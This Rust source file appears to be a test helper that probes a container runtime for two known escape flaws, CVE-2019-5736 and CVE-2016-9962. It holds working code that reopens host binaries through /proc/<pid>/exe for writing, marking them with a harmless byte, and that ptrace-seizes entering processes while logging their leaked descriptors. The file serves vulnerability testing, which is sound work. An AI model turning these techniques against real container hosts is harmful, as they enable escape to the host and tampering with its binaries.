//! Somebody in the container who watches for processes of the engine that come in, until `/tmp/enough` is there.

use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileExt, MetadataExt};

/// A byte of an ELF header that nobody reads: the end of `e_ident`.
const PADDING: u64 = 15;
/// Programs of the image.
const OURS: &str = "/bin/";

/// Keeps the program of every process open, and tries to write to each (CVE-2019-5736): while it runs the kernel refuses, but
/// later it may not.
pub(crate) fn overwrite() -> Result<u8, String> {
    let mut kept: Vec<(String, File)> = Vec::new();
    let mut known = BTreeSet::new();
    while !is_enough() {
        for pid in processes() {
            let Ok(file) = File::open(format!("/proc/{pid}/exe")) else { continue };
            // What was opened, not what the process executes by now.
            let Ok(link) = fs::read_link(opened(&file)) else { continue };
            let name = link.display().to_string();
            if name.starts_with(OURS) {
                continue;
            }
            let Ok(metadata) = file.metadata() else { continue };
            if known.insert((metadata.dev(), metadata.ino())) {
                println!("SAW {name}");
                kept.push((name, file));
            }
        }
        for (name, file) in &kept {
            if let Ok(writable) = OpenOptions::new().write(true).open(opened(file)) {
                println!("OPENED {name}");
                if writable.write_all_at(b"X", PADDING).is_ok() {
                    println!("WROTE {name}");
                }
            }
        }
    }
    println!("DONE");
    Ok(0)
}

fn opened(file: &File) -> String {
    format!("/proc/self/fd/{}", file.as_raw_fd())
}

/// Looks at the descriptors of every process that comes in, and tries to trace it before it runs a program of the image
/// (CVE-2016-9962).
pub(crate) fn spy() -> Result<u8, String> {
    let own = std::process::id();
    while !is_enough() {
        for pid in processes().filter(|pid| *pid != own && *pid != 1) {
            let before = fs::read_link(format!("/proc/{pid}/exe"));
            for entry in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
                let number: i32 = entry.file_name().to_str().and_then(|name| name.parse().ok()).unwrap_or(-1);
                if number > 2
                    && let Ok(link) = fs::read_link(entry.path())
                {
                    println!("DESCRIPTOR {number} {}", link.display());
                }
            }
            trace(pid, before.map(|link| link.display().to_string()).unwrap_or_default());
        }
    }
    println!("DONE");
    Ok(0)
}

fn is_enough() -> bool {
    fs::metadata("/tmp/enough").is_ok()
}

fn trace(pid: u32, before: String) {
    // SAFETY: seizing takes a process id and no addresses.
    let seized = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) };
    if seized != 0 {
        return;
    }
    let after =
        fs::read_link(format!("/proc/{pid}/exe")).map(|link| link.display().to_string()).unwrap_or_default();
    for program in [before, after] {
        if !program.is_empty() && !program.starts_with(OURS) {
            println!("TRACED {program}");
        }
    }
    // Detaching needs a stopped process.
    // SAFETY: numbers only; the status is a place for one int.
    unsafe {
        let mut status = 0;
        if libc::ptrace(libc::PTRACE_INTERRUPT, pid, 0, 0) == 0 {
            libc::waitpid(pid.cast_signed(), &raw mut status, libc::__WALL);
        }
        libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0);
    }
}

fn processes() -> impl Iterator<Item = u32> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok())
}
